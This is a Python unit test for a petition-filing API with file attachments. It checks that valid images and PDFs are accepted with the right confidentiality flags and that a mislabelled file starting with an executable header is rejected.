def test_files_with_a_new_petition_through_the_api(zone, enterprise_user, media):
    client = Client()  # the public, no account: multipart, no CSRF token needed without a session
    fields = {k: v for k, v in _public_form(zone).items() if k not in ("publish_allowed", "consent")}
    response = client.post(
        "/api/v1/petitions/with-files",
        {**fields, "publish_allowed": "true", "attachments": [upload("anh.png", make_png())]},
    )
    assert response.status_code == 201, response.content
    petition = _filed_public().get(reference=response.json()["reference"])
    assert [(a.original_name, a.confidential) for a in petition.attachments.all()] == [("anh.png", True)]

    refused = client.post(
        "/api/v1/petitions/with-files", {**fields, "attachments": [upload("anh.png", b"MZ\x90\x00not a picture")]}
    )
    assert refused.status_code == 422
    assert "anh.png:" in refused.json()["errors"]["attachments"][0]
    assert _filed_public().count() == 1 and len(stored_files(media)) == 1

    enterprise = _login(enterprise_user)  # its contact is its account's: it sends no petitioner's
    own = {k: v for k, v in fields.items() if not k.startswith("petitioner_") and k != "consent_version"}
    response = enterprise.post(
        "/api/v1/petitions/with-files",
        {**own, "attachments": [upload("ho-so.pdf", make_pdf())], "attachments_confidential": "false"},
    )
    assert response.status_code == 201, response.content
    from zonedesk.petitions.models import Petition

    mine = Petition.objects.get(reference=response.json()["reference"])
    assert mine.enterprise == enterprise_user.enterprise and mine.petitioner_name == ""
    assert [(a.original_name, a.confidential) for a in mine.attachments.all()] == [("ho-so.pdf", False)]
